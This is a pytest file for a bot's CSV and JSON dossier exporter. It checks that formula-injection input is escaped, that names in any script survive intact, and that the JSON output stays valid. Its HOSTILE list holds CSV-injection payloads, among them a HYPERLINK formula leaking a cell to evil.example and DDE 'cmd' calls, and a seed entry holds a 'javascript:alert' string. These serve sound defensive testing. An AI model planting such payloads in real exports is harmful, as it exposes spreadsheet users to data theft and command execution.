"""The CSV and JSON dossiers under hostile text: no cell is ever a formula, names in any script
survive, every contribution is a row with its mark and origin, and the JSON is valid whatever members
typed."""

from __future__ import annotations

import csv
import io
import json

import pytest

from cogs.research.export import CSV_COLUMNS, Dossier, Person, credits_of, package, render
from tests.domain.test_dossier_seed import seed_dossier
from tests.domain.test_research import entry, sample

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1\nsecond line",
]
SAFE = [
    "Lenin died in 1924.",
    " =not at the start",
    "a=b",
    "Ленин умер в 1924 году",
    "Dzierżyński, Łódź, źdźbło",
    "列宁",
    'quotes "inside", commas, and\nnewlines',
]


def dossier_of(texts: list[str], names: list[str] | None = None) -> Dossier:
    names = names or ["Veles"] * len(texts)
    entries = tuple(
        entry(i, Person(100 + i, name), text, title=text, sources=text)
        for i, (text, name) in enumerate(zip(texts, names, strict=True), 1)
    )
    return Dossier(sample().episode, entries, credits_of(entries))


def read_back(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")  # UTF-8 with BOM: Excel reads the names right
    data = text.encode("utf-8")
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_no_cell_is_a_formula():
    _, text = render(dossier_of(HOSTILE), "csv")
    rows = read_back(text)
    assert [r["text"] for r in rows] == ["'" + t for t in HOSTILE]
    assert [r["title"] for r in rows] == ["'" + t for t in HOSTILE]
    assert [r["sources"] for r in rows][:2] == ["'" + t for t in HOSTILE[:2]]
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)


def test_hostile_member_names_are_neutralised_too():
    names = ["=cmd()", "@admin", "+33 6 12", "-dash", "Łucja Wąsowska", "Владимир"]
    _, text = render(dossier_of(["x"] * len(names), names), "csv")
    rows = read_back(text)
    assert [r["author_name"] for r in rows] == ["'=cmd()", "'@admin", "'+33 6 12", "'-dash", *names[4:]]


def test_ordinary_text_and_any_script_are_kept_exactly():
    names = ["Veles", "Łucja Wąsowska", "Владимир", "毛", "Zoë", "Ana"]
    _, text = render(dossier_of(SAFE[:6], names), "csv")
    rows = read_back(text)
    assert list(rows[0]) == list(CSV_COLUMNS)
    assert [r["text"] for r in rows] == SAFE[:6]
    assert [r["author_name"] for r in rows] == names
    assert [r["id"] for r in rows] == [str(i) for i in range(1, 7)]
    _, quoted = render(dossier_of(SAFE[6:]), "csv")
    assert [r["text"] for r in read_back(quoted)] == SAFE[6:]


def test_empty_values_are_empty_cells():
    _, text = render(dossier_of(["plain"]), "csv")
    (row,) = read_back(text)
    assert row["edited_at"] == "" and row["reply_to"] == ""


def test_packaged_csv_keeps_the_byte_order_mark():
    name, text = render(dossier_of(SAFE), "csv")
    _, data = package(name, text, 10**6)
    assert data.startswith(b"\xef\xbb\xbf")


@pytest.mark.parametrize("text", [*HOSTILE, *SAFE, "\x00\x1f\u2028\u2029", "\\", '"', "}]},{"])
def test_json_is_valid_whatever_members_type(text):
    _, out = render(dossier_of([text], [text or "x"]), "json")
    data = json.loads(out)
    (row,) = data["contributions"]
    assert row["text"] == text and row["title"] == text
    assert row["author"]["name"] == (text or "x")


def test_json_entries_carry_the_author_and_link_fields_the_spec_names():
    _, out = render(sample(), "json")
    first = json.loads(out)["contributions"][0]
    assert first["author_id"] == "11" and first["author_name"] == "Veles"
    assert first["link"] == first["url"] == "https://discord.com/channels/1/2/1"
    for key in ("id", "created_at", "text", "sources", "likes", "reply_to", "origin"):
        assert key in first


def test_csv_carries_every_contribution_with_its_mark_and_origin():
    _, text = render(seed_dossier(), "csv")
    rows = read_back(text)
    assert [(r["id"], r["mark"], r["origin"]) for r in rows] == [
        ("1", "key", "thread"),
        ("2", "normal", "thread"),
        ("3", "normal", "thread"),
        ("4", "excluded", "thread"),  # left out of the dossier, kept here with its mark
        ("5", "normal", "forum"),
        ("6", "normal", "form"),
        ("7", "normal", "thread"),
    ]
    assert (rows[4]["author_id"], rows[4]["author_name"]) == ("", "Indy")  # a forum author, no member
    assert rows[0]["sources"].splitlines() == [
        "Service, Robert. Lenin: A Biography. London: Macmillan, 2000. ISBN 0-330-49139-3",
        "https://en.wikipedia.org/wiki/Death_and_state_funeral_of_Vladimir_Lenin?utm_source=forum",
    ]
    assert rows[6]["sources"].startswith("javascript:alert(8)")  # text, never a formula or a link
